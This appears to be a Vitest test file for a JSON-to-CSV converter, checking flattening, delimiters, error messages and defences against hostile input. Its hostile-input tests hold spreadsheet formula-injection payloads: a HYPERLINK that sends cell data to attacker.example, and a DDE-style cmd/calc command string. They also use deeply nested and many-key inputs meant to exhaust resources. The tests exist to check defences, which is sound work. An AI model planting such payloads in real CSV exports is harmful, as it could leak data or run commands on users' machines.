import { describe, expect, it } from 'vitest'
import { parseCsv } from '../../src/lib/csv/csv'
import { DEFAULT_OPTIONS as CSV_DEFAULTS, convertCsv } from '../../src/lib/csv/csv-to-json'
import {
  csvFileName,
  DEFAULT_OPTIONS,
  defuse,
  flatten,
  jsonToCsv,
  SAMPLE_JSON,
} from '../../src/tools/json-to-csv/json-to-csv'
import { slowdown } from '../support/slowdown'

const ok = (text: string, options = DEFAULT_OPTIONS) => {
  const r = jsonToCsv(text, options)
  if (!r.ok) throw new Error(r.message)
  return r
}

describe('json-to-csv', () => {
  it('flattens nested fields to dot paths, columns in order of first appearance', () => {
    const r = ok(SAMPLE_JSON)
    // Row 3's empty "tags" array has no leaves: it is kept as [] in a "tags" column.
    expect(r.columns).toEqual([
      'id',
      'name',
      'address.city',
      'address.zip',
      'tags.0',
      'tags.1',
      'active',
      'note',
      'tags',
    ])
    expect(r.rows).toBe(3)
    const rows = parseCsv(r.csv, ',').rows
    expect(rows[1]).toEqual(['1', 'Ada Lovelace', 'London', 'W1', 'math', 'poetry', '', '', ''])
    expect(rows[3][8]).toBe('[]')
    expect(rows[2][1]).toBe('Grace "Amazing" Hopper')
    expect(rows[3][7]).toBe('Line one\nLine two')
    expect(r.csv).toContain('"Grace ""Amazing"" Hopper"')
  })

  it('keeps empty objects and arrays as leaves (written as JSON) and nulls as empty cells', () => {
    expect([...flatten({ a: {}, b: [], c: null, d: { e: [1, { f: true }] } }, '', new Map())]).toEqual([
      ['a', {}],
      ['b', []],
      ['c', null],
      ['d.e.0', 1],
      ['d.e.1.f', true],
    ])
    expect(ok('[{"a":{},"b":[],"c":null,"d":true}]').csv).toBe('a,b,c,d\r\n{},[],,true')
  })

  it('writes arrays of arrays and of plain values', () => {
    expect(ok('[[1,"a"],[2]]').csv).toBe('column_1,column_2\r\n1,a\r\n2,')
    expect(ok('["x", 2, null]', { ...DEFAULT_OPTIONS, header: false }).csv).toBe('x\r\n2\r\n')
  })

  it('uses the chosen delimiter and can defuse formulas', () => {
    expect(ok('[{"a":"x;y","b":1}]', { ...DEFAULT_OPTIONS, delimiter: ';' }).csv).toBe('a;b\r\n"x;y";1')
    const safe = ok('[{"f":"=SUM(A1:A2)","g":"-1","h":"@cmd","i":"plain"}]', {
      ...DEFAULT_OPTIONS,
      protectFormulas: true,
    })
    expect(safe.csv.split('\r\n')[1]).toBe("'=SUM(A1:A2),'-1,'@cmd,plain")
    expect(defuse('ok')).toBe('ok')
  })

  it('explains what is wrong with the input', () => {
    const fail = (t: string) => {
      const r = jsonToCsv(t, DEFAULT_OPTIONS)
      return r.ok ? '' : r.message
    }
    expect(fail('{"rows": [1, 2]}')).toBe(
      'JSON to CSV needs an array of objects or of arrays; this JSON is an object. Its "rows" field is an array: paste that instead.',
    )
    expect(fail('42')).toContain('this JSON is a number')
    expect(fail('null')).toContain('this JSON is null')
    expect(fail('[]')).toBe('The array is empty: there are no rows to write')
    expect(fail('[{"a":1},')).toMatch(/^Invalid JSON: .+ \(line 1, column \d+\)$/)
    expect(fail('  ')).toBe('Paste a JSON array to convert')
  })

  it('round-trips through csv-to-json', () => {
    const data = [
      { name: 'Ada, Countess', age: 36, city: 'London' },
      { name: 'Quote "q"', age: 41, city: 'Line\nbreak' },
    ]
    const csv = ok(JSON.stringify(data)).csv
    expect(JSON.parse(convertCsv(csv, CSV_DEFAULTS).json)).toEqual(data)
  })

  it('names the download', () => {
    expect(csvFileName('people.json', ',')).toBe('people.csv')
    expect(csvFileName(null, '\t')).toBe('data.tsv')
  })
})

describe('json-to-csv on hostile input', () => {
  it('defuses the header row and text cells by default, with every OWASP prefix', () => {
    const json = JSON.stringify([
      { '=HYPERLINK("https://attacker.example/?"&A2,"Click")': 1, "@SUM(1)*cmd|' /C calc'!A0": '+1', n: -5 },
      { '\tt': '\rr', '-x': '=1' },
    ])
    const rows = parseCsv(ok(json).csv, ',').rows
    expect(rows[0]).toEqual([
      `'=HYPERLINK("https://attacker.example/?"&A2,"Click")`,
      "'@SUM(1)*cmd|' /C calc'!A0",
      'n',
      "'\tt",
      "'-x",
    ])
    // -5 is a number: it stays one.
    expect(rows[1]).toEqual(['1', "'+1", '-5', '', ''])
    expect(rows[2]).toEqual(['', '', '', "'\rr", "'=1"])
    const live = parseCsv(ok(json, { ...DEFAULT_OPTIONS, protectFormulas: false }).csv, ',').rows
    expect(live[0][0]).toBe('=HYPERLINK("https://attacker.example/?"&A2,"Click")')
  })

  it('flattens 100,000 nested levels without the call stack, and refuses them naming the limit', () => {
    let deep: unknown = 1
    for (let i = 0; i < 100_000; i++) deep = { a: deep }
    expect(() => flatten(deep, '', new Map())).toThrow(/more than 1,000 levels deep/)
    const r = jsonToCsv(`[${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]`, DEFAULT_OPTIONS)
    expect(r.ok).toBe(false)
    if (!r.ok)
      expect(r.message).toBe('This JSON nests more than 1,000 levels deep; JSON to CSV flattens up to 1,000 levels.')
    // Up to the limit it flattens in document order.
    let ok999: unknown = 'x'
    for (let i = 0; i < 999; i++) ok999 = { a: ok999 }
    const flat = flatten(ok999, '', new Map())
    expect([...flat.keys()]).toEqual([Array(999).fill('a').join('.')])
    // And the tool keeps working.
    expect(ok('[{"a":1}]').csv).toBe('a\r\n1')
  })

  it('writes 200,000 rows of arrays (no argument spread)', () => {
    const data = Array.from({ length: 200_000 }, (_, i) => [i, `r${i}`])
    const r = ok(JSON.stringify(data))
    expect(r.rows).toBe(200_000)
    expect(r.columns).toEqual(['column_1', 'column_2'])
    expect(r.csv.endsWith('\r\n199999,r199999')).toBe(true)
  })

  it('refuses 20,000 different keys quickly, naming the column limit', () => {
    const data = Array.from({ length: 20_000 }, (_, i) => ({ [`k${i}`]: i }))
    const r = jsonToCsv(JSON.stringify(data), DEFAULT_OPTIONS)
    // Refused at about the cost of converting 20,000 ordinary rows (the quadratic key search took 59 s: ×1000s).
    const hostile = JSON.stringify(data)
    const ordinary = JSON.stringify(data.map((_, i) => ({ k: i })))
    expect(
      slowdown(
        () => jsonToCsv(hostile, DEFAULT_OPTIONS),
        () => jsonToCsv(ordinary, DEFAULT_OPTIONS),
      ),
    ).toBeLessThan(5)
    expect(r.ok).toBe(false)
    if (!r.ok) expect(r.message).toContain('up to 16,384 columns')
    const cells = jsonToCsv(JSON.stringify(Array.from({ length: 400_000 }, () => Array(20).fill(1))), DEFAULT_OPTIONS)
    expect(cells.ok ? '' : cells.message).toBe(
      '400,000 rows × 20 columns is 8,000,000 cells: JSON to CSV writes up to 5,000,000.',
    )
  })
})
